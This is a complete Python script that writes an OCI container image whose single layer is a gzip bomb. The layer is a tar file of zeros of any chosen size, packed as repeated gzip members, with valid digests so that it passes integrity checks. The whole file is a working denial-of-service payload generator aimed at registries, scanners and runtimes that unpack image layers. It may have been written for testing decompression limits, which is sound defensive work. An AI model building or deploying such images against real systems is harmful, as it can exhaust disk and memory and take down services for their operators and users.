#!/usr/bin/env python3
"""Writes an OCI image layout whose one layer is a gzip bomb: a tar holding one file of SIZE
bytes of zeros, as a few MB of concatenated gzip members (RFC 1952 allows that, and every
decompressor reads them as one stream). The layer's digest and diff_id are right: only its
size is hostile.
usage: mkbomb.py OUT_DIR TAG SIZE_MIB"""
import gzip, hashlib, io, json, os, sys, tarfile

out, tag, mib = sys.argv[1], sys.argv[2], int(sys.argv[3])
size = mib << 20
os.makedirs(os.path.join(out, "blobs", "sha256"), exist_ok=True)

def blob(data):
    d = hashlib.sha256(data).hexdigest()
    with open(os.path.join(out, "blobs", "sha256", d), "wb") as f:
        f.write(data)
    return {"digest": "sha256:" + d, "size": len(data)}

ti = tarfile.TarInfo("zeros")
ti.size, ti.mode, ti.mtime = size, 0o644, 1700000000
header = ti.tobuf(format=tarfile.PAX_FORMAT)
chunk = bytes(1 << 20)
trailer = bytes((512 - size % 512) % 512) + bytes(1024)
member = gzip.compress(chunk, 9, mtime=0)
diff = hashlib.sha256(header)
layer = io.BytesIO()
layer.write(gzip.compress(header, 9, mtime=0))
for _ in range(mib):
    layer.write(member)
    diff.update(chunk)
layer.write(gzip.compress(trailer, 9, mtime=0))
diff.update(trailer)
lay = blob(layer.getvalue())
lay["mediaType"] = "application/vnd.oci.image.layer.v1.tar+gzip"
cfg = blob(json.dumps({"architecture": "amd64", "os": "linux", "config": {},
                       "rootfs": {"type": "layers", "diff_ids": ["sha256:" + diff.hexdigest()]}}).encode())
cfg["mediaType"] = "application/vnd.oci.image.config.v1+json"
man = blob(json.dumps({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
                       "config": cfg, "layers": [lay]}).encode())
man["mediaType"] = "application/vnd.oci.image.manifest.v1+json"
man["annotations"] = {"org.opencontainers.image.ref.name": tag}
with open(os.path.join(out, "index.json"), "w") as f:
    json.dump({"schemaVersion": 2, "manifests": [man]}, f)
with open(os.path.join(out, "oci-layout"), "w") as f:
    json.dump({"imageLayoutVersion": "1.0.0"}, f)
print(lay["size"])
